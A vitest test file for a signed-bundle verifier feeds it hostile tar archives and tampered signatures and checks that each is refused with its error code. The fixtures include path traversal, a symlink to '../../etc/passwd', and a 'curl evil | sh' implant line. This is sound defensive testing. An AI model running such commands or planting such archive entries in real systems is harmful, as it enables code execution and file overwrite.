// Attacks on bundles: hostile tars written byte-for-byte with the tar package's own encoders, and
// really signed bundles whose bytes are then tampered with. Every case must be refused with its code.
import { lstat, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { extractBundle, type Manifest, readBundle } from '@clawback/bundle';
import { loadPublicKey } from '@clawback/core';
import { verifyBundleFile } from '@clawback/sign';
import {
  addProvenance,
  entrypointEntries,
  MANIFEST_MEMBER,
  makeSignedBundle,
  manifestFor,
  type RawTarEntry,
  rawTar,
} from '@clawback/testing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

let tmp: string;
beforeEach(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'clawback-attack-'));
});
afterEach(async () => {
  await rm(tmp, { recursive: true, force: true });
});

async function* once(b: Uint8Array) {
  yield b;
}
const codeOf = (p: Promise<unknown>) =>
  p.then(
    () => 'accepted',
    (e: { code?: string }) => e.code,
  );

/** A hostile tar whose manifest (what the signers signed) lists `files` plus the entrypoint. */
function hostile(files: Manifest['files'], entries: RawTarEntry[]) {
  const ep = entrypointEntries();
  const { bytes } = manifestFor([ep.file, ...files].sort((x, y) => (x.path < y.path ? -1 : 1)));
  const tar = rawTar([{ path: MANIFEST_MEMBER, data: bytes }, ...ep.tar, ...entries]);
  return { tar, bytes };
}

/** Read and extract must both refuse, and the extraction must leave nothing behind (nothing outside either). */
async function refused(tar: Buffer, bytes: Uint8Array): Promise<string | undefined> {
  const readCode = await codeOf(readBundle(once(tar), { expectedManifest: bytes }));
  const slot = join(tmp, 'slot');
  const extractCode = await codeOf(
    extractBundle(once(tar), slot, { expectedManifest: bytes, durable: false }),
  );
  expect(extractCode).toBe(readCode);
  expect(await readdir(slot)).toEqual([]);
  expect(await readdir(tmp)).toEqual(['slot']);
  return readCode;
}

describe('hostile tar entries are refused at read and at extract', () => {
  it('path traversal with ..', async () => {
    const { tar, bytes } = hostile([], [{ path: '../evil', data: 'x' }]);
    expect(await refused(tar, bytes)).toBe('BUNDLE_ENTRY_UNSAFE');
  });
  it('traversal hidden in a pax path', async () => {
    const { tar, bytes } = hostile([], [{ path: 'bin/../../evil', data: 'x', pax: true }]);
    expect(await refused(tar, bytes)).toBe('BUNDLE_ENTRY_UNSAFE');
  });
  it('absolute path', async () => {
    const { tar, bytes } = hostile([], [{ path: '/tmp/evil', data: 'x', pax: true }]);
    expect(await refused(tar, bytes)).toBe('BUNDLE_ENTRY_UNSAFE');
  });
  it('symlink escaping the bundle', async () => {
    const { tar, bytes } = hostile(
      [{ path: 'lnk', type: 'symlink', target: 'ok' }],
      [{ path: 'lnk', type: 'SymbolicLink', linkpath: '../../etc/passwd' }],
    );
    expect(await refused(tar, bytes)).toBe('BUNDLE_ENTRY_UNSAFE');
  });
  it('hardlink', async () => {
    const { tar, bytes } = hostile([], [{ path: 'hard', type: 'Link', linkpath: 'bin/sensor-agent' }]);
    expect(await refused(tar, bytes)).toBe('BUNDLE_ENTRY_UNSAFE');
  });
  it('character device and fifo', async () => {
    const dev = hostile([], [{ path: 'null', type: 'CharacterDevice' }]);
    expect(await refused(dev.tar, dev.bytes)).toBe('BUNDLE_ENTRY_UNSAFE');
    const fifo = hostile([], [{ path: 'pipe', type: 'FIFO' }]);
    expect(await refused(fifo.tar, fifo.bytes)).toBe('BUNDLE_ENTRY_UNSAFE');
  });
  it('an entry the signed manifest does not list', async () => {
    const { tar, bytes } = hostile([], [{ path: 'implant.sh', data: 'curl evil | sh' }]);
    expect(await refused(tar, bytes)).toBe('BUNDLE_ENTRY_UNEXPECTED');
  });
  it('the same entry twice', async () => {
    const { tar, bytes } = hostile(
      [],
      [{ path: 'bin/sensor-agent', data: '#!/bin/sh\necho hi\n', mode: 0o755 }],
    );
    expect(await refused(tar, bytes)).toBe('BUNDLE_ENTRY_UNEXPECTED');
  });
  it('a listed entry that is missing', async () => {
    const { tar, bytes } = hostile([{ path: 'gone', type: 'directory', mode: 0o755 }], []);
    expect(await refused(tar, bytes)).toBe('BUNDLE_ENTRY_MISSING');
  });
  it('a file swapped for other bytes of the same size', async () => {
    const ep = entrypointEntries();
    const { bytes } = manifestFor([ep.file]);
    const tar = rawTar([
      { path: MANIFEST_MEMBER, data: bytes },
      { path: 'bin/sensor-agent', data: '#!/bin/sh\necho XX\n', mode: 0o755 },
    ]);
    expect(await refused(tar, bytes)).toBe('BUNDLE_DIGEST_MISMATCH');
  });
  it('a manifest that is not the first member', async () => {
    const ep = entrypointEntries();
    const { bytes } = manifestFor([ep.file]);
    const tar = rawTar([...ep.tar, { path: MANIFEST_MEMBER, data: bytes }]);
    expect(await refused(tar, bytes)).toBe('BUNDLE_MANIFEST_MISMATCH');
  });
  it('a signed manifest that routes a file through a symlink', async () => {
    const ep = entrypointEntries();
    const { bytes } = manifestFor([
      ep.file,
      { path: 'd', type: 'symlink', target: 'bin' },
      { path: 'd/x', type: 'file', mode: 0o644, size: 1, sha256: '0'.repeat(64) },
    ]);
    const tar = rawTar([{ path: MANIFEST_MEMBER, data: bytes }, ...ep.tar]);
    expect(await refused(tar, bytes)).toBe('SIGNED_MANIFEST_INVALID');
  });
  it('a file larger than the cap', async () => {
    const ep = entrypointEntries();
    const { bytes } = manifestFor([ep.file]);
    const tar = rawTar([{ path: MANIFEST_MEMBER, data: bytes }, ...ep.tar]);
    expect(
      await codeOf(readBundle(once(tar), { expectedManifest: bytes, limits: { maxFileBytes: 4 } })),
    ).toBe('BUNDLE_TOO_LARGE');
  });
  it('a truncated tar', async () => {
    const { tar, bytes } = hostile(
      [{ path: 'big', type: 'file', mode: 0o644, size: 4096, sha256: '0'.repeat(64) }],
      [{ path: 'big', data: Buffer.alloc(4096) }],
    );
    expect(await refused(tar.subarray(0, tar.length - 1024 - 2048), bytes)).toMatch(
      /BUNDLE_TAR_INVALID|BUNDLE_ENTRY_MISSING/,
    );
  });
});

describe('tampering with a really signed bundle', () => {
  async function fixture() {
    const f = await makeSignedBundle(tmp, { keys: 2 });
    const prov = await addProvenance(f);
    const trustedKeys = await Promise.all(f.publicKeyPaths.map((p) => loadPublicKey(p)));
    const verify = (overrides: Record<string, unknown> = {}) =>
      verifyBundleFile({
        bundlePath: f.bundlePath,
        trustedKeys,
        threshold: 2,
        provenancePath: prov.provenancePath,
        provenancePolicy: {
          repository: 'acme/agents',
          workflowPath: '.github/workflows/release.yml',
          refPattern: 'refs/tags/v.*',
        },
        now: new Date(),
        ...overrides,
      });
    return { f, prov, verify };
  }
  const failedCodes = (r: { checks: { ok: boolean; code?: string; name: string }[] }) =>
    r.checks.filter((c) => !c.ok).map((c) => `${c.name}:${c.code}`);

  it('the untouched bundle passes every check', async () => {
    const { verify } = await fixture();
    const r = await verify();
    expect(failedCodes(r)).toEqual([]);
    expect(r.ok).toBe(true);
  });

  it('one byte of the manifest member, of a payload file, of a header', async () => {
    const { f, verify } = await fixture();
    const original = await readFile(f.bundlePath);
    const manifestAt = original.indexOf(Buffer.from('"agent_profile"'));
    const payloadAt = original.indexOf(Buffer.alloc(512, 7)) + 7;
    const headerAt = original.indexOf(Buffer.from('lib/parser.js\0')) + 2;
    for (const [at, code] of [
      [manifestAt, 'bundle-contents:BUNDLE_MANIFEST_MISMATCH'],
      [payloadAt, 'bundle-contents:BUNDLE_DIGEST_MISMATCH'],
      [headerAt, 'bundle-contents:BUNDLE_TAR_INVALID'],
    ] as const) {
      const bytes = Buffer.from(original);
      bytes[at] = (bytes[at] ?? 0) ^ 0x01;
      await writeFile(f.bundlePath, bytes);
      const r = await verify();
      expect(r.ok).toBe(false);
      expect(failedCodes(r)).toEqual([code, 'provenance-subject:PROVENANCE_SUBJECT_MISMATCH']);
    }
  });

  it('any single byte anywhere in the bundle file', async () => {
    const { f, verify } = await fixture();
    const original = await readFile(f.bundlePath);
    const step = Math.floor(original.length / 25);
    for (let at = 3; at < original.length; at += step) {
      const bytes = Buffer.from(original);
      bytes[at] = (bytes[at] ?? 0) ^ 0x80;
      await writeFile(f.bundlePath, bytes);
      const r = await verify();
      expect(r.ok, `byte ${at}`).toBe(false);
      expect(failedCodes(r)).toContain('provenance-subject:PROVENANCE_SUBJECT_MISMATCH');
    }
  });

  it('one byte of the signature file, or a signature swapped in from another key', async () => {
    const { f, verify } = await fixture();
    const sig = JSON.parse(await readFile(f.signaturePath, 'utf8'));
    const s0 = Buffer.from(sig.signatures[0].sig, 'base64');
    s0[5] = (s0[5] ?? 0) ^ 1;
    sig.signatures[0].sig = s0.toString('base64');
    await writeFile(f.signaturePath, JSON.stringify(sig));
    const r = await verify();
    expect(failedCodes(r)).toEqual(['manifest-signature:SIGNATURE_THRESHOLD_NOT_MET']);
    expect(r.checks.map((c) => c.name)).not.toContain('bundle-contents');
    const r1 = await verify({ threshold: 1 });
    expect(r1.ok).toBe(true);
  });

  it('a payload edited inside the signature envelope', async () => {
    const { f, verify } = await fixture();
    const sig = JSON.parse(await readFile(f.signaturePath, 'utf8'));
    const payload = Buffer.from(sig.payload, 'base64');
    payload[20] = (payload[20] ?? 0) ^ 1;
    sig.payload = payload.toString('base64');
    await writeFile(f.signaturePath, JSON.stringify(sig));
    expect(failedCodes(await verify())).toEqual(['manifest-signature:SIGNATURE_INVALID']);
  });

  it('one byte of the provenance statement', async () => {
    const { prov, verify } = await fixture();
    const env = JSON.parse(await readFile(prov.provenancePath, 'utf8'));
    const payload = Buffer.from(env.payload, 'base64');
    const at = payload.indexOf(Buffer.from('acme')) + 1;
    payload[at] = (payload[at] ?? 0) ^ 0x02;
    env.payload = payload.toString('base64');
    await writeFile(prov.provenancePath, JSON.stringify(env));
    expect(failedCodes(await verify())).toEqual(['provenance-signature:SIGNATURE_INVALID']);
  });

  it('provenance from an untrusted key, or for another repository', async () => {
    const { f, verify } = await fixture();
    const other = await makeSignedBundle(join(tmp, 'other'));
    const r = await verify({ provenanceKeys: [await loadPublicKey(other.publicKeyPaths[0] ?? '')] });
    expect(failedCodes(r)).toEqual(['provenance-signature:SIGNATURE_INVALID']);
    const r2 = await verify({ provenancePolicy: { repository: 'acme/other' } });
    expect(failedCodes(r2)).toEqual(['provenance-repository:PROVENANCE_REPOSITORY_MISMATCH']);
    expect((await lstat(f.bundlePath)).isFile()).toBe(true);
  });
});
